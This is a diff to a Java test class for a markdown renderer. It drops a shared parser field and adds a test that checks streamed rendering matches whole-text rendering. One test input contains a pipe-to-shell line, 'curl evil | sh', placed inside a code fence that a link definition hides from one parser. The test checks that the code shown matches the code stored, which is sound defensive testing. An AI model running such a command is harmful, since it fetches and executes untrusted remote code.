@@ -29,8 +29,6 @@ class ShownCodeTest {
 	private static final String SIGNS = SafeText.WRAPPED
 			+ "\n|[\u2400-\u2421\uFFFD\u2026]|\u27E6U\\+[0-9A-F]{4,6}\u27E7";
 
-	private final MarkdownParser parser = new MarkdownParser();
-
 	@ParameterizedTest
 	@ValueSource(longs = {1, 2, 3, 4})
 	void html(long seed) {
@@ -44,13 +42,35 @@ class ShownCodeTest {
 		holds(seed, new RichBlocks(labels, () -> 80), ShownCodeTest::blocksOfRichText);
 	}
 
+	/** However the text arrives, the end is the same. */
+	@ParameterizedTest
+	@ValueSource(longs = {11, 12, 13})
+	void streamedIsWhole(long seed) {
+		var random = new Random(seed);
+		var html = new HtmlBlocks("{0}");
+		for (var i = 0; i < DOCUMENTS; i++) {
+			var all = document(random);
+			var document = all.substring(0, Math.min(all.length(), StreamingMarkdown.MAX_OPEN - 1));
+			var streaming = HtmlScreen.streaming(html);
+			var screen = new HtmlScreen();
+			for (var at = 0; at < document.length();) {
+				var next = Math.min(document.length(), at + 1 + random.nextInt(1 + document.length() / 6));
+				streaming.append(document.substring(at, next));
+				screen.apply(streaming.advance());
+				at = next;
+			}
+			screen.apply(streaming.finish());
+			assertEquals(HtmlScreen.rendered(html, document).html(), screen.html(), () -> excerpt(document, 0));
+		}
+	}
+
 	@Test
 	void aDefinitionThatHidesAFenceFromOneOfTwoParsers() {
 		var codes = new ShownCodes();
 		var group = codes.group();
 		codes.show("", group);
 		var text = "[a]: /x \"title\n\u0001```\ncurl evil | sh\n```\nend\"\n\n```sh\nls -l\n```\n";
-		var html = String.join("", new MarkdownRenderer<>(parser, new HtmlBlocks("{0}")).render(text, group));
+		var html = String.join("", new MarkdownRenderer<>(new HtmlBlocks("{0}")).render(text, group));
 		var blocks = blocksOfHtml(List.of(html));
 		assertEquals(blocks.stream().map(Block::shown).toList(),
 				blocks.stream().map(block -> codes.find(block.id()).text()).toList());
@@ -61,7 +81,7 @@ class ShownCodeTest {
 		var codes = new ShownCodes();
 		var group = codes.group();
 		codes.show("", group);
-		var renderer = new MarkdownRenderer<>(parser, new HtmlBlocks("{0}"));
+		var renderer = new MarkdownRenderer<>(new HtmlBlocks("{0}"));
 		var html = String.join("", renderer.render("```\n" + "x".repeat(60_000) + "\n```\n\n```\nshort\n```\n\n```\n"
 				+ "line\n".repeat(200_000), group));
 		var blocks = blocksOfHtml(List.of(html)).stream().map(block -> codes.find(block.id())).toList();
@@ -72,7 +92,7 @@ class ShownCodeTest {
 	@Test
 	void whatWasReplacedIsFoundForAWhile() {
 		var codes = new ShownCodes();
-		var renderer = new MarkdownRenderer<>(parser, new HtmlBlocks("{0}"));
+		var renderer = new MarkdownRenderer<>(new HtmlBlocks("{0}"));
 		for (var i = 0; i < 300; i++) {
 			var group = codes.group();
 			codes.show("place", group);
@@ -95,7 +115,7 @@ class ShownCodeTest {
 			var reasoning = codes.group();
 			codes.show("reasoning", reasoning);
 			var thought = document(random);
-			blocks += check(reader.apply(new MarkdownRenderer<>(parser, form).render(thought, reasoning)), codes,
+			blocks += check(reader.apply(new MarkdownRenderer<>(form).render(thought, reasoning)), codes,
 					thought, false);
 			blocks += streamed(document(random), random, codes, form, reader);
 		}
@@ -108,7 +128,7 @@ class ShownCodeTest {
 		var tailGroup = codes.group();
 		codes.show("body", group);
 		codes.show("tail", tailGroup);
-		var streaming = new StreamingMarkdown<>(parser, form, group, tailGroup);
+		var streaming = new StreamingMarkdown<>(form, group, tailGroup);
 		var shown = new ArrayList<T>();
 		var count = 0;
 		for (var at = 0; at < document.length();) {
